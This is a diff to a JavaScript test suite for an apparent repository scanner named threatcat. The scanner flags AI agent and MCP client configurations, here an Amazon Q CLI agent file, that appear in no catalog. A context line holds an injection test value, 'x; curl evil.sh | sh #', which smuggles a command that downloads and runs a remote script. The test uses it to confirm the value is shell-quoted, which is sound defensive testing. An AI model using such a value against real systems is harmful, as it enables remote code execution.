@@ -148,3 +148,19 @@ test('a hostile agent name is one quoted shell word in the init command the find
   assert.match(f.message, /threatcat init --agent 'x; curl evil\.sh \| sh #'\\''/);
   assert.match(f.message, / 'apps\/it is'`/);
 });
+
+test('an Amazon Q CLI agent file at the root, in no catalog, is one uncovered-agent warning as a client configuration', () => {
+  const dir = initRepo();
+  mkdirSync(join(dir, '.amazonq/cli-agents'), { recursive: true });
+  writeFileSync(
+    join(dir, '.amazonq/cli-agents/ops.json'),
+    '{\n  "mcpServers": {\n    "k8s": { "command": "npx", "args": ["-y", "mcp-server-kubernetes"] }\n  },\n  "allowedTools": ["@k8s"]\n}\n',
+  );
+  commit(dir, 'a Q agent at the root');
+  const out = diffJson(dir, '--base', 'main', '--head', 'HEAD').out;
+  assert.deepEqual(
+    uncovered(out).map((f) => [f.file, f.line]),
+    [['.amazonq/cli-agents/ops.json', 1]],
+  );
+  assert.match(uncovered(out)[0].message, /MCP client configuration \.amazonq\/cli-agents\/ops\.json is in no catalog/);
+});
